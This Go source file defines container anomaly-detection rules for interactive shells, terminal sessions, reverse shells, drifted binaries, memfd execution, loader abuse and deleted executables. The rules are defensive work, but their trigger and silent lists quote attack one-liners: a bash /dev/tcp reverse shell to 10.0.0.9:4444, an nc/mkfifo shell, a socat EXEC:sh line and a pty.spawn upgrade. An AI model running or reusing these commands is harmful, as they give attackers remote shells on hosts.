// SPDX-License-Identifier: Apache-2.0

package anomaly

import (
	"fmt"
	"net/netip"
	"strings"

	"github.com/Ignoramuss/orb8/internal/process"
	"github.com/Ignoramuss/orb8/internal/syscalls"
)

func terminalShell() *Rule {
	return &Rule{
		Name: "terminal_shell", Severity: Warning, Technique: "T1609", Tactic: "Execution",
		Title:  "A shell with a terminal was brought into a running container",
		Reason: "Somebody works by hand inside a container that was already running.",
		Triggers: []string{
			"`kubectl exec -it POD -- sh`, and the same with docker, crictl or podman",
			"a shell below another program that was brought in: `kubectl exec -it POD -- timeout 1h sh`, or from Python",
		},
		Silent: []string{
			"a container whose first process is the shell, as with `kubectl run -it`, and the new container that `kubectl debug` makes",
			"a shell script that is started without a terminal, such as a probe of the kubelet",
			"a shell that is started without a terminal though somebody types (`kubectl exec -i POD -- sh`)",
			"what a shell with a terminal starts, which was told of before",
			"a shell with a terminal that a process of the container opened (rule terminal_session)",
		},
		Needs: []string{NeedsExec},
		On:    []process.What{process.Exec},
		Match: func(s *Subject) (string, bool) {
			if s.Terminal != BroughtIn {
				return "", false
			}
			name := shell(s.Process)
			if name == "" {
				return "", false
			}
			return shown(name) + " was started in the running container with a terminal", true
		},
	}
}

func terminalSession() *Rule {
	return &Rule{
		Name: "terminal_session", Severity: Notice, Technique: "T1609", Tactic: "Execution",
		Title:  "A terminal was used in a running container",
		Reason: "Somebody works by hand: an administrator, a user of a service that offers terminals, or whoever broke in and wants a comfortable shell.",
		Triggers: []string{
			"another program than a shell that is brought in with a terminal: `kubectl exec -it POD -- python3`, `psql`, `gdb`",
			"a shell with a terminal that a process of the container opened: `python3 -c 'import pty; pty.spawn(\"sh\")'`, `script`, socat with `pty`, sshd; also the terminals of Jupyter or a web IDE, and what Ansible's runner or another program by way of pexpect starts: name them in an exception",
		},
		Silent: []string{
			"what is started in a container that has a terminal of its own (`tty: true`)",
			"a shell that is brought in (rule terminal_shell), and what is started from a shell with a terminal",
			"another program than a shell on a terminal that was opened inside",
			"the scripts of packages, for which apt opens a terminal",
		},
		Needs: []string{NeedsExec},
		On:    []process.What{process.Exec},
		Match: func(s *Subject) (string, bool) {
			name := shell(s.Process)
			switch {
			case s.Terminal == BroughtIn && name == "" && s.Entered:
				return program(s.Process) + " was started in the running container with a terminal", true
			case s.Terminal == OpenedInside && name != "":
				return fmt.Sprintf("%s was started with a terminal that was opened inside the container, by %s", shown(name), program(s.Inside)), true
			}
			return "", false
		},
	}
}

func reverseShell() *Rule {
	return &Rule{
		Name: "reverse_shell", Severity: Critical, Technique: "T1059.004", Tactic: "Execution",
		Title:  "A shell whose input or output is a network connection",
		Reason: "Whoever is at the other end of the connection types the commands.",
		Triggers: []string{
			"`bash -i >& /dev/tcp/10.0.0.9/4444 0>&1`, also over loopback",
			"`python`, `perl` or another interpreter that is started with a connection as its standard input or output",
			"a program that such a shell starts with the connection as its standard input and output",
		},
		Silent: []string{
			"a shell with pipes, files, a terminal or Unix sockets, even if another program passes what comes from a connection on to it: `mkfifo f; sh <f | nc HOST PORT >f`, `socat TCP:HOST:PORT EXEC:sh,pipes`, `openssl s_client` in the same way (of a terminal that is opened for that, rule terminal_session tells)",
			"a server that is no shell and gets its connection from inetd or a socket unit",
			"a process with a listening socket as its standard input, as of FastCGI",
		},
		Needs: []string{NeedsExec},
		On:    []process.What{process.Exec},
		Match: func(s *Subject) (string, bool) {
			through, remote := shellSocket(s)
			if through == "" {
				return "", false
			}
			s.Remote = remote
			return fmt.Sprintf("%s talks to %s through its standard %s", program(s.Process), s.Remote, through), true
		},
		Calls: []string{"dup2", "dup3"},
		Call: func(c *syscalls.Call) bool {
			return uint32(c.Args[1]) <= 2 && (strings.HasPrefix(c.Files[0], "TCP ") || strings.HasPrefix(c.Files[0], "UDP "))
		},
	}
}

// shellSocket returns the standard file of a shell that is a connection, with the
// other end; empty if there is none.
func shellSocket(s *Subject) (through string, remote netip.AddrPort) {
	if s.Start == nil {
		return "", netip.AddrPort{}
	}
	in, out := s.Start.Stdin.Connected(), s.Start.Stdout.Connected()
	switch {
	case !in && !out:
		return "", netip.AddrPort{}
	case shell(s.Process) != "" || isInterpreter(s.Process.Exe.Name()):
	case !in || !out || s.Inside == nil || shell(s.Inside) == "":
		return "", netip.AddrPort{}
	}
	if in {
		return "input", s.Start.Stdin.Remote
	}
	return "output", s.Start.Stdout.Remote
}

func driftedExecutable() *Rule {
	return &Rule{
		Name: "drifted_executable", Severity: Warning, Technique: "T1105", Tactic: "Command and Control",
		Title:  "A program that was changed or is not from the image was started",
		Reason: "What runs was made or changed after the container started, so nobody who checked the image has seen it.",
		Triggers: []string{
			"a binary that was downloaded, unpacked or compiled in the container and then started",
			"a program of the image that was overwritten",
			"a program of the image whose owner or mode the container changed (`chown -R`, `chmod +x` in an entrypoint): that copies it, and what is in it may be another thing by now; do it in the image instead, or name it in an exception",
		},
		Silent: []string{
			"the image's own programs",
			"a tool that an init container copied into a volume before this container started",
			"a script, since what runs is its interpreter; a library or module that a program loads",
			"a program that the dynamic loader starts (rule loader_execution)",
		},
		Needs: []string{NeedsExec},
		On:    []process.What{process.Exec},
		Match: func(s *Subject) (string, bool) {
			switch {
			case !drifted(s):
				return "", false
			case s.Process.Exe.Upper:
				return file(s.Process) + " was started, which was changed or is not from the image", true
			}
			return file(s.Process) + " was started, which was made or changed after the container started", true
		},
	}
}

// drifted reports whether an executable was made or changed after its container
// started. On an overlay the layer tells, elsewhere (volumes, other kinds of root file
// systems) the time does.
func drifted(s *Subject) bool {
	exe := &s.Process.Exe
	switch {
	case exe.Memfd:
		return false
	case exe.Overlay:
		return exe.Upper
	}
	return s.CgroupStart > 0 && exe.Changed > s.CgroupStart
}

func memfdExecution() *Rule {
	return &Rule{
		Name: "memfd_execution", Severity: Critical, Technique: "T1620", Tactic: "Defense Evasion",
		Title:  "A program was started from memory",
		Reason: "A program without a file leaves nothing on disk that could be looked at, and starts where file systems are read-only.",
		Triggers: []string{
			"`memfd_create`, then `execveat` or `execve` of /proc/self/fd/N",
		},
		Silent: []string{
			"a container runtime that clones itself into memory before it enters the container",
			"memory files that are only mapped or passed on",
		},
		Needs: []string{NeedsExec},
		On:    []process.What{process.Exec},
		Match: func(s *Subject) (string, bool) {
			if !s.Process.Exe.Memfd {
				return "", false
			}
			return file(s.Process) + " was started, which is in memory only", true
		},
		Calls: []string{"memfd_create", "execveat"},
		Call: func(c *syscalls.Call) bool {
			const emptyPath = 0x1000 // AT_EMPTY_PATH
			return syscalls.Name(c.ABI, c.Number) == "memfd_create" || c.Args[4]&emptyPath != 0
		},
	}
}

func loaderExecution() *Rule {
	return &Rule{
		Name: "loader_execution", Severity: Warning, Technique: "T1218", Tactic: "Defense Evasion",
		Title:  "The dynamic loader was started as a program",
		Reason: "The loader then runs another file, which need not be executable, and the kernel knows the loader only: whether that file is from the image, deleted or in memory is not seen.",
		Triggers: []string{
			"`/lib64/ld-linux-x86-64.so.2 /tmp/tool`, and the same with other loaders of glibc and musl",
			"wrappers that bring a loader of their own; `ldd FILE`, which does the same: name them in an exception (`parent: ldd`)",
		},
		Silent: []string{
			"programs that are started in the ordinary way, for which the kernel starts the loader",
			"a container's first process",
			"a loader that only says something (--list, --verify, --help, --version), where arguments are read",
			"a copy of the loader under another name (made in the container, it is of rule drifted_executable)",
		},
		Needs: []string{NeedsExec},
		On:    []process.What{process.Exec},
		Match: func(s *Subject) (string, bool) {
			if s.First || !isLoader(s.Process.Exe.Name()) {
				return "", false
			}
			args := s.Process.Args
			if len(args) > 0 {
				of, told := loaded(args[1:])
				switch {
				case of != "":
					return file(s.Process) + ", the dynamic loader, was started to run " + shown(of), true
				case told || !s.Process.ArgsTruncated:
					return "", false
				}
			}
			return file(s.Process) + ", the dynamic loader, was started as a program", true
		},
	}
}

// loaded returns which program a loader with these arguments runs, empty if none is among
// them, and whether they tell that it runs none.
func loaded(args []string) (program string, none bool) {
	for i := 0; i < len(args); i++ {
		switch arg := args[i]; arg {
		case "--list", "--verify", "--help", "--version", "--list-tunables", "--list-diagnostics":
			return "", true
		case "--": // the end of musl's options
			if i+1 < len(args) {
				return args[i+1], false
			}
		case "--library-path", "--inhibit-rpath", "--audit", "--preload", "--argv0",
			"--glibc-hwcaps-prepend", "--glibc-hwcaps-mask":
			i++
		default:
			if !strings.HasPrefix(arg, "--") {
				return arg, false
			}
		}
	}
	return "", false
}

func deletedExecutable() *Rule {
	return &Rule{
		Name: "deleted_executable", Severity: Warning, Technique: "T1070.004", Tactic: "Defense Evasion",
		Title:  "A program was started from a deleted file",
		Reason: "The file was removed before it was started through what still had it open, which hides what runs.",
		Triggers: []string{
			"a file that is opened, deleted, and then started as /proc/self/fd/N",
		},
		Silent: []string{
			"a program whose file is deleted while it runs, as an upgrade does",
		},
		Needs: []string{NeedsExec},
		On:    []process.What{process.Exec},
		Match: func(s *Subject) (string, bool) {
			if !s.Process.Exe.Deleted || s.Process.Exe.Memfd {
				return "", false
			}
			return file(s.Process) + " was started after it was deleted", true
		},
	}
}
